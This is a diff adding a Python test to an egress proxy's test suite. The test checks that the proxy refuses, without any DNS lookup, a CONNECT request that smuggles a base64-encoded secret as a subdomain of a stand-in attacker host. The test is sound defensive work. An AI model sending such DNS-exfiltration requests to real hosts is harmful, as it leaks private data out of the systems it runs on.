@@ -187,3 +187,16 @@ def test_stop_closes_every_connection_and_removes_the_socket() -> None:
         sock.close()
     assert not folder.exists()
     assert threading.active_count() < before
+
+
+def test_an_unlisted_name_is_never_resolved() -> None:
+    """A lookup is a message: ``CONNECT <secret>.attacker.example:443`` must not reach DNS."""
+    asked: list[str] = []
+
+    async def resolve(host: str, port: int) -> list[str]:
+        asked.append(host)
+        return ["192.0.2.10"]
+
+    with EgressProxy(["api.example.com"], resolve=resolve) as proxy:
+        reply = _exchange(proxy, b"CONNECT c2VjcmV0.attacker.example:443 HTTP/1.1\r\n\r\n")
+    assert reply.startswith(b"HTTP/1.1 403") and asked == []
